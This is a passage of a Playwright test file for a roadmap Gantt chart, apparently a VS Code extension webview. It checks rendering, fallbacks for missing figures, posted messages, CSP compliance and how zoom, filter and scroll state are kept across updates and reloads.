            for (const element of document.querySelectorAll(${JSON.stringify(selector)})) seen.add(element.getAttribute(${JSON.stringify(attribute)}));
            if (top >= box.scrollHeight - box.clientHeight) break;
          }
          return [...seen];
        })()`)) as string[];
      const charted = await collect('.scroller', '.chart [data-id]', 'data-id');
      assert.equal(charted.length, ids.length);
      assert.deepEqual(new Set(charted), new Set(ids));
      const tabled = new Set(await collect('.table-scroller', 'table.rollup tbody button[data-open]', 'data-open'));
      assert.deepEqual(ids.filter((id) => !tabled.has(id)), [], 'every project has a row in the table');
      assert.deepEqual(dialogs, []);
      await page.context().close();
    });

    it('shows the bars in a browser that cannot unpack the figures, and says so', async () => {
      const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
      const page = await context.newPage();
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      await page.addInitScript('delete window.DecompressionStream');
      await page.goto(pathToFileURL(file).href);
      await figuresShown(page);
      assert.ok((await count(page, '.chart [data-id]')) > 10);
      assert.match((await page.locator('.notice').textContent()) ?? '', /This browser cannot unpack the figures of this file/);
      assert.deepEqual(errors, []);
      await context.close();
    });

    it('shows the bars of an export cut short, and says its figures are missing', async () => {
      const cut = path.join(work, 'medium-cut.html');
      fs.writeFileSync(cut, fs.readFileSync(file, 'utf8').replace(/<script type="application\/gzip" id="roadmap-details">[^<]*<\/script>\n/, ''));
      const { page, dialogs } = await openOffline(browser, cut);
      await figuresShown(page);
      assert.ok((await count(page, '.chart [data-id]')) > 10);
      assert.match((await page.locator('.notice').textContent()) ?? '', /The figures are missing from this file/);
      assert.match((await page.locator('table.rollup tbody').textContent()) ?? '', /The figures are missing from this file/);
      assert.deepEqual(dialogs, []);
      await page.context().close();
    });
  });

  describe('the same bundle as VS Code runs it (acquireVsCodeApi, messages, CSP with a nonce)', () => {
    const origin = 'https://webview.test';
    const nonce = 'bm9uY2Utc2VjcmV0LTEyMzQ1';
    const index = [
      '<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8">',
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'nonce-${nonce}'; style-src ${origin}; img-src ${origin}; font-src ${origin}">`,
      `<link rel="stylesheet" href="${origin}/webview.css"></head>`,
      `<body><div id="roadmap-app"></div><script nonce="${nonce}" src="${origin}/webview.js"></script></body></html>`,
    ].join('');
    type Posted = { type: string; [key: string]: unknown };
    /** What the fake VS Code API keeps on the page's global object. */
    interface Probe {
      __posted: Posted[];
      __state: { zoom: number; leftDay: number | null; filters: { health: string[] } } | null;
    }
    // Function predicates: a string would be eval'd, which the webview's CSP (rightly) forbids.
    const hasPosted = (page: Page, type: string, more = 0) =>
      page.waitForFunction(([t, n]) => (globalThis as unknown as Probe).__posted.filter((m) => m.type === t).length > (n as number), [type, more] as const);
    let model: { bars: Array<{ id: string; name: string; health: string }>; range: { start: number; end: number }; [key: string]: unknown };
    let full: RoadmapModel;

    /** A page like VS Code's webview: our HTML, the bundle, a fake acquireVsCodeApi that records messages and keeps state. */
    async function openWebview(state?: unknown): Promise<{ page: Page; requests: string[] }> {
      const context = await browser.newContext({ viewport: { width: 1300, height: 850 } });
      const requests: string[] = [];
      await context.route('**/*', (route) => {
        const url = route.request().url();
        const files: Record<string, [string, string]> = {
          [`${origin}/index.html`]: ['text/html', index],
          [`${origin}/webview.js`]: ['text/javascript', fs.readFileSync(path.join(repo, 'dist', 'webview.js'), 'utf8')],
          [`${origin}/webview.css`]: ['text/css', fs.readFileSync(path.join(repo, 'dist', 'webview.css'), 'utf8')],
        };
        if (files[url]) return route.fulfill({ status: 200, contentType: files[url][0], body: files[url][1] });
        requests.push(url);
        return route.abort();
      });
      const page = await context.newPage();
      await page.addInitScript(`
        window.__posted = [];
        window.__state = ${JSON.stringify(state ?? null)};
        window.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
        window.acquireVsCodeApi = () => ({
          postMessage: (message) => window.__posted.push(message),
          getState: () => window.__state ?? undefined,
          setState: (next) => { window.__state = next; },
        });
        // The number of elements in the first frame, when it is handed over for painting.
        const mark = performance.mark.bind(performance);
        performance.mark = (name, options) => {
          if (name === 'roadmap:frame') window.__firstFrameElements = document.getElementsByTagName('*').length;
          return mark(name, options);
        };
      `);
      await page.goto(`${origin}/index.html`);
      return { page, requests };
    }

    /** A page like VS Code's webview that asked for a model, was sent `value` and drew it. */
    async function openDrawn(value: unknown): Promise<{ page: Page; requests: string[] }> {
      const opened = await openWebview();
      await hasPosted(opened.page, 'ready');
      await sendModel(opened.page, value);
      await hasPosted(opened.page, 'rendered');
      return opened;
    }

    const posted = async (page: Page) => (await page.evaluate('window.__posted')) as Posted[];
    /** Posts messages one after the other, as the extension's channel does. */
    const post = (page: Page, messages: readonly unknown[]) => page.evaluate(`for (const m of ${JSON.stringify(messages)}) window.postMessage(m, '*')`);
    const renderedPosts = async (page: Page) => (await posted(page)).filter((m) => m.type === 'rendered');
    const sendModel = (page: Page, value: unknown) => page.evaluate(`window.postMessage(${JSON.stringify({ type: 'model', model: value })}, '*')`);
    const renderedCount = async (page: Page) => (await posted(page)).filter((m) => m.type === 'rendered').length;

    before(() => {
      const html = fs.readFileSync(path.join(work, 'examples.html'), 'utf8');
      full = embeddedModel(html);
      model = full as unknown as typeof model;
    });

    it('draws the outline a new page is sent first, then the whole model', async () => {
      const { page } = await openWebview();
      await hasPosted(page, 'ready');
      // What the channel sends a page that has just said ready: the outline, then the model.
      await post(page, [{ type: 'outline', outline: roadmapOutline(full) }, { type: 'model', model: full }]);
      await hasPosted(page, 'rendered', 1);
      await figuresShown(page);
      const drawn = { type: 'rendered', bars: 17, drawn: 17, rows: 20 };
      assert.deepEqual(await renderedPosts(page), [drawn, drawn]);
      const painted = await page.evaluate(`performance.getEntriesByName('roadmap:painted')[0].detail`);
      // The page said "Loading the plans…" before: its first contentful paint came earlier, so the hand-over time stands in.
      assert.deepEqual(painted, { bars: 17, milestones: 0, figures: false, clock: 'frame' });
      assert.equal(await page.locator('table.rollup tbody tr').count(), 1 + 3 + 17);
      assert.ok((await page.locator('.chart .milestone').count()) > 0);
      await page.context().close();
    });

    it('draws the first frame of 10,000 projects from their outline with at most 2,000 elements in the page', async () => {
      const small = roadmapOutline(full);
      const count = 10_000;
      const column = <T>(values: readonly T[]) => Array.from({ length: count }, (_, i) => values[i % values.length]);
      const bars = Object.fromEntries(Object.entries(small.bars).map(([key, values]) => [key, column(values as readonly unknown[])])) as unknown as RoadmapOutline['bars'];
      const outline: RoadmapOutline = { ...small, bars: { ...bars, id: bars.id.map((id, i) => `${id}-${i}`), name: bars.name.map((name, i) => `${name} ${i}`) } };
      const { page } = await openWebview();
      await hasPosted(page, 'ready');
      await post(page, [{ type: 'outline', outline }]);
      await hasPosted(page, 'rendered');
      const [report] = await renderedPosts(page);
      assert.deepEqual([report.bars, report.rows], [count, count + small.lanes.length]);
      assert.ok((report.drawn as number) >= 5 && (report.drawn as number) < 100, `${report.drawn as number} bars drawn: the rows in view`);
      const elements = (await page.evaluate('window.__firstFrameElements')) as number;
      assert.ok(elements > 100 && elements <= 2000, `${elements} elements in the first frame`);
      await page.context().close();
    });

    it('until the whole model comes, shows the outline\'s bars and says the figures are loading', async () => {
      const { page } = await openWebview();
      await hasPosted(page, 'ready');
      await post(page, [{ type: 'outline', outline: roadmapOutline(full) }]);
      await hasPosted(page, 'rendered');
      assert.equal(await page.locator('.chart [data-id]').count(), 17);
      assert.equal(await page.locator('.chart .milestone, .chart .dependency').count(), 0);
      assert.equal(await page.locator('.table-section').getAttribute('aria-busy'), 'true');
      assert.equal(await page.locator('table.rollup tbody').textContent(), 'Loading the figures…');
      await page.locator('button', { hasText: 'Copy as CSV' }).click();
      assert.equal(await page.locator('.notice').textContent(), 'The figures are still loading: copy again in a moment');
      assert.deepEqual((await posted(page)).filter((m) => m.type === 'copy'), [], 'nothing copied');
      await page.context().close();
    });

    it('ignores an outline once it shows a whole model (the whole model of an update follows it)', async () => {
      const { page } = await openDrawn(full);
      const edited = { ...full, bars: full.bars.filter((b) => b.id !== 'wallets') };
      await post(page, [{ type: 'outline', outline: roadmapOutline({ ...full, bars: full.bars.slice(0, 5) }) }, { type: 'model', model: edited }]);
      await hasPosted(page, 'rendered', 1);
      // Had the outline been drawn, its report (5 bars) would have come before the model's.
      assert.deepEqual((await renderedPosts(page)).map((m) => m.bars), [17, 16]);
      assert.equal(await page.locator('table.rollup tbody tr').count(), 1 + 3 + 16);
      await page.context().close();
    });

    it('asks for the model, draws it, reports back, and posts open and copy', async () => {
      const { page, requests } = await openDrawn(model);
      assert.deepEqual((await posted(page)).find((m) => m.type === 'rendered'), { type: 'rendered', bars: 17, drawn: 17, rows: 20 });
      await page.locator('.chart [data-id="checkout-v2"] .body').click();
      await page.locator('.scroller').focus();
      await page.keyboard.press('ArrowDown');
      const focused = (await page.evaluate('document.activeElement?.getAttribute("data-id")')) as string;
      await page.keyboard.press('Enter');
      await page.locator('button', { hasText: 'Copy as CSV' }).click();
      await page.locator('table.rollup button[data-open="platform"]').click();
      const actions = (await posted(page)).filter((m) => m.type === 'open' || m.type === 'copy');
      assert.deepEqual(actions, [
        { type: 'open', id: 'checkout-v2' },
        { type: 'open', id: focused },
        { type: 'copy', format: 'csv' },
        { type: 'open', id: 'platform' },
      ]);
      assert.deepEqual(await page.evaluate('window.__violations'), [], 'nothing breaks the webview CSP');
      assert.deepEqual(requests, []);
      await page.context().close();
    });

    it('opens the bar pressed and released even when a redraw replaced it in between', async () => {
      const { page } = await openDrawn(model);
      const bar = page.locator('.chart [data-id="checkout-v2"] .body');
      const pressed = await bar.elementHandle();
      // hover: scrolled into view and the pointer over a point of the bar that nothing covers.
      await bar.hover();
      await page.mouse.down();
      // An update arrives while the button is held: the chart is drawn again, the pressed element is gone.
      const before = await renderedCount(page);
      await sendModel(page, model);
      await hasPosted(page, 'rendered', before);
      assert.equal(await pressed!.evaluate((element) => element.isConnected), false, 'the pressed bar was replaced');
      await page.mouse.up();
      await hasPosted(page, 'open');
      assert.deepEqual((await posted(page)).filter((m) => m.type === 'open'), [{ type: 'open', id: 'checkout-v2' }]);
      await page.context().close();
    });

    it('drops a program filter when an update renames the program', async () => {
      const { page } = await openDrawn(model);
      await page.locator('select[aria-label="Program"]').selectOption('program:payments');
      const payments = await page.locator('.chart [data-id]').count();
      assert.ok(payments > 0 && payments < 17, `${payments} bars of payments`);
      const lanes = (model.lanes as Array<{ key: string; program: { id: string; name: string } | null }>).map((lane) =>
        lane.key === 'program:payments' ? { ...lane, key: 'program:payments-2026', program: { id: 'payments-2026', name: 'Payments 2026' } } : lane,
      );
      const before = await renderedCount(page);
      await sendModel(page, { ...model, lanes });
      await hasPosted(page, 'rendered', before);
      assert.equal(await page.locator('.chart [data-id]').count(), 17, 'all programs again');
      assert.equal(await page.locator('select[aria-label="Program"]').inputValue(), '');
      await page.context().close();
    });

    it('keeps zoom, filters and scroll across model updates and a reload (getState/setState)', async () => {
      const { page } = await openDrawn(model);
      await page.locator('button', { hasText: 'Weeks' }).click();
      await page.locator('label.check.health-green input').uncheck();
      const scrolled = (await page.locator('.scroller').evaluate((scroller) => {
        scroller.scrollLeft = 1200;
        return scroller.scrollLeft;
      })) as number;
      // The state saved after the scroll (an earlier save, from the zoom or the filter, may come first):
      // its left day is the range's start plus the days scrolled past at 14 px a day.
      const leftDay = model.range.start + Math.floor(scrolled / 14);
      await page.waitForFunction((expected) => {
        const state = (globalThis as unknown as Probe).__state;
        return state !== null && state.zoom === 14 && state.filters.health.length === 2 && state.leftDay === expected;
      }, leftDay);
      const saved = (await page.evaluate('window.__state')) as { leftDay: number; zoom: number };

      // An edit: one project renamed, one gone, the time range the same.
      const edited = { ...model, bars: model.bars.filter((b) => b.id !== 'wallets').map((b) => (b.id === 'pci-dss-4' ? { ...b, name: 'PCI renamed' } : b)) };
      const before = await renderedCount(page);
      await sendModel(page, edited);
      await hasPosted(page, 'rendered', before);
      const notGreen = edited.bars.filter((b) => b.health !== 'green').map((b) => b.id).sort();
      const shown = await page.locator('.chart [data-id]').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-id')));
      assert.deepEqual([...shown].sort(), notGreen);
      assert.equal(await page.locator('button', { hasText: 'Weeks' }).getAttribute('aria-pressed'), 'true');
      assert.equal(await page.locator('label.check.health-green input').isChecked(), false);
      assert.ok(((await page.locator('table.rollup').textContent()) ?? '').includes('PCI DSS'), 'the table keeps the rollup it was sent');
      assert.ok(((await page.locator('[data-id="pci-dss-4"]').getAttribute('aria-label')) ?? '').startsWith('PCI renamed'));
      const scrollLeft = (await page.locator('.scroller').evaluate((scroller) => scroller.scrollLeft)) as number;
      assert.ok(Math.abs(scrollLeft - 1200) <= 14, `scroll kept: ${scrollLeft}`);
      await page.context().close();

      // A reload: VS Code gives the saved state back.
      const restored = await openWebview(saved);
      await hasPosted(restored.page, 'ready');
      await sendModel(restored.page, edited);
      await hasPosted(restored.page, 'rendered');
      assert.equal(await restored.page.locator('button', { hasText: 'Weeks' }).getAttribute('aria-pressed'), 'true');
      assert.equal(await restored.page.locator('label.check.health-green input').isChecked(), false);
      const left = (await restored.page.locator('.scroller').evaluate((scroller) => scroller.scrollLeft)) as number;
      assert.ok(Math.abs(left - 1200) <= 14, `scroll restored: ${left}`);
      await restored.page.context().close();
    });
  });
});
